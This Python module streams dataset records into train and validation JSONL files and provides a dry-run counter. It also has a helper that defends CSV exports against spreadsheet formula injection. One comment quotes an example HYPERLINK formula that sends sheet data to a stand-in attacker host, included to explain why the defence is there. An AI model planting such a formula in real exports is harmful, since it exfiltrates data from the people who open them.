"""Where records go: files per split, streamed, so nothing is held in memory."""

from __future__ import annotations

from pathlib import Path
from typing import IO, Any

import orjson

SPLITS = ("train", "validation")
# Records are a few KB: with the default 8 KB buffer every few records cost a write call
# (5-10% of the exporting process's time in issue 21's profile).
WRITE_BUFFER = 1 << 20
# A spreadsheet runs a cell that starts with one of these as a formula, so a prompt holding
# `=HYPERLINK("https://evil.example/?"&A1, "click")` could send the sheet's data away from the
# analyst who opens an export. OWASP's rule: a leading single quote makes the cell text.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """`value` for a CSV cell: text that a spreadsheet would run as a formula gets a leading `'`;
    numbers (a negative one too) and everything else are left as they are."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    # Whether `write_line` takes a record already written as its JSON line (the JSON-lines
    # writers): the pipeline then makes the line where the record is built (exporters.prepare).
    takes_lines: bool = False

    def write(self, split: str, record: dict[str, Any]) -> None:
        raise NotImplementedError

    def write_line(self, split: str, line: bytes) -> None:
        """A record as one JSON line, ending in a newline, as `write` would write it."""
        raise NotImplementedError

    def split_files(self) -> dict[str, tuple[Path, int]]:
        """Each split's JSONL file (relative to the export folder) and its record count, for
        the dataset card; empty when the files are not JSON lines."""
        return {}

    def close(self) -> list[Path]:
        """Finish writing; the files written."""
        raise NotImplementedError


class JsonlSplits(Writer):
    """`train.jsonl` and `validation.jsonl` (a file only once it has a record), one JSON
    object per line, UTF-8, no ASCII escaping."""

    def __init__(self, out_dir: Path, folder: str = "", suffix: str = ".jsonl"):
        self.dir = Path(out_dir) / folder
        self.folder = folder
        self.suffix = suffix
        self.counts: dict[str, int] = dict.fromkeys(SPLITS, 0)
        self._files: dict[str, IO[bytes]] = {}

    takes_lines = True

    def write(self, split: str, record: dict[str, Any]) -> None:
        self.write_line(split, orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE))

    def write_line(self, split: str, line: bytes) -> None:
        file = self._files.get(split)
        if file is None:
            self.dir.mkdir(parents=True, exist_ok=True)
            path = self.dir / f"{split}{self.suffix}"
            file = self._files[split] = open(path, "wb", buffering=WRITE_BUFFER)  # noqa: SIM115
        file.write(line)
        self.counts[split] = self.counts.get(split, 0) + 1

    def split_files(self) -> dict[str, tuple[Path, int]]:
        folder = Path(self.folder)
        return {
            split: (folder / f"{split}{self.suffix}", self.counts[split])
            for split in SPLITS
            if split in self._files
        }

    def close(self) -> list[Path]:
        paths = []
        for file in self._files.values():
            file.close()
            paths.append(Path(file.name))
        return paths


class CountOnly(Writer):
    """A dry run (the admin API's preview): counts, no files."""

    takes_lines = True

    def __init__(self) -> None:
        self.counts: dict[str, int] = dict.fromkeys(SPLITS, 0)

    def write(self, split: str, record: dict[str, Any]) -> None:
        self.counts[split] = self.counts.get(split, 0) + 1

    def write_line(self, split: str, line: bytes) -> None:
        self.counts[split] = self.counts.get(split, 0) + 1

    def close(self) -> list[Path]:
        return []
